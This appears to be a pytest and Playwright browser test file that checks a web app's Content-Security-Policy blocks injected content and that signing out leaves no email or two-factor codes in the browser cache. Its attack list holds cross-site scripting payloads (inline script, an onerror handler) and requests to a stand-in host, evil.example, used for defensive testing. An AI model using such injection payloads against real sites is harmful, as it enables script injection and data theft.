"""What a real browser makes of our headers (WH-04, WH-05, WH-15)."""

from contextlib import suppress

import pytest
from playwright.sync_api import Error, expect

from tests.hardening.markup import ADDRESS
from tests.support.organizations import found
from tests.support.people import PASSWORD, TWO_FACTOR, enrol, make_user, sign_in

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

NASTY = "/app/nasty/settings/"
EVIL = "http://evil.example"
# Attacks have add(tag, {attributes}), which puts an element into the page, and html(text), which parses one.
# Answers with what the browser says was violated.
ATTEMPT = """() => new Promise(done => {
    const add = (tag, made) => document.body.appendChild(Object.assign(document.createElement(tag), made));
    const html = text => document.body.insertAdjacentHTML("beforeend", text);
    document.addEventListener("securitypolicyviolation", event => done(event.effectiveDirective));
    %s;
})"""
ATTACKS = [
    ("script-src-elem", "add('script', {text: 'window.owned = 1'})"),
    ("script-src-attr", "html('<img src=x onerror=\"window.owned = 1\">')"),
    ("style-src-elem", "html('<style>h1 { opacity: 0 }</style>')"),
    ("style-src-attr", "html('<p style=\"position: fixed\">')"),
    ("script-src-elem", f"add('script', {{src: '{EVIL}/x.js'}})"),
    ("connect-src", f"fetch('{EVIL}/').catch(() => 0)"),
    ("img-src", f"add('img', {{src: '{EVIL}/x.png'}})"),
    ("frame-src", f"add('iframe', {{src: '{EVIL}'}})"),
    ("object-src", f"html('<object data=\"{EVIL}\"></object>')"),
    ("base-uri", f"html('<base href=\"{EVIL}\">')"),
    ("form-action", f"add('form', {{action: '{EVIL}'}}).submit()"),
    ("script-src", "setTimeout('window.owned = 1')"),
]


@pytest.mark.parametrize(("directive", "attack"), ATTACKS)
def test_wh_05_what_is_injected_is_blocked(live_site, page, directive, attack):
    page.goto("/session")

    assert page.evaluate(ATTEMPT % attack) == directive
    assert page.evaluate("window.owned") is None
    assert page.evaluate("getComputedStyle(document.querySelector('h1')).opacity") == "1"
    assert page.url == f"{live_site.url}/session"


def log_in(page, name, app=None):
    page.goto("/session")
    page.get_by_label("Username or email").fill(name)
    page.get_by_label("Password", exact=True).fill(PASSWORD)
    page.get_by_role("button", name="Sign in").click()
    if app:
        page.get_by_label("Authentication code").fill(app.fresh_code())
        page.get_by_role("button", name="Verify").click()
    page.wait_for_url("**/app")


def log_out(page):
    page.locator("summary", has_text="User menu").click()
    page.get_by_role("button", name="Log out").click()
    page.wait_for_url("**/session")


def everything_below(directory):
    return b"".join(path.read_bytes() for path in directory.rglob("*") if path.is_file())


def test_wh_04_nasty_names_run_nothing_and_violate_nothing(live_site, page, transactional_db):
    owner = make_user("owner-of-it", email=ADDRESS)
    found("nasty", owner)
    sign_in(owner).post("/app/nasty/settings/general", {"email": ADDRESS})
    alarms = []
    page.on("dialog", lambda dialog: (alarms.append(dialog.message), dialog.dismiss()))
    page.on("console", lambda message: alarms.append(message.text) if message.type == "error" else None)
    page.on("pageerror", lambda error: alarms.append(str(error)))

    log_in(page, "owner-of-it")
    for path in [
        "/app/settings/profile",
        "/app/nasty",
        "/app/nasty/settings/general",
        "/app/nasty/settings/users",
    ]:
        assert page.goto(path).status == 200

    assert alarms == []


@pytest.fixture
def profile(browser_type, browser_type_launch_args, browser_context_args, live_site, tmp_path):
    """A browser that keeps what it caches, and where it does."""
    context = browser_type.launch_persistent_context(
        tmp_path / "profile", **browser_type_launch_args, **browser_context_args
    )
    yield context, tmp_path / "profile"
    context.close()


def test_wh_15_after_signing_out_nothing_is_left_in_the_browser(profile, alice):
    context, directory = profile
    page = context.new_page()
    log_in(page, "alice")
    page.goto("/app/settings/profile")
    assert "alice@example.com" in page.content()
    page.goto("/app")
    log_out(page)

    for _ in range(4):
        page.go_back()
        assert "alice@example.com" not in page.content()
        assert page.url.partition("?")[0].endswith(("/session", "blank"))
    context.close()

    assert b"alice@example.com" not in everything_below(directory)


def test_wh_15_codes_are_not_kept(profile, alice):
    context, directory = profile
    app = enrol(alice)
    page = context.new_page()
    log_in(page, "alice", app)
    page.goto(TWO_FACTOR)
    page.get_by_role("button", name="Reveal codes").click()
    page.get_by_text(app.codes[0]).wait_for()

    page.goto("/app")
    log_out(page)
    for _ in range(3):
        with suppress(Error):  # the codes were in the answer to a form, which the browser has not kept
            page.go_back()
        expect(page.get_by_text(app.codes[0])).to_have_count(0)
    context.close()

    kept = everything_below(directory)
    assert [code for code in app.codes if code.encode() in kept] == []
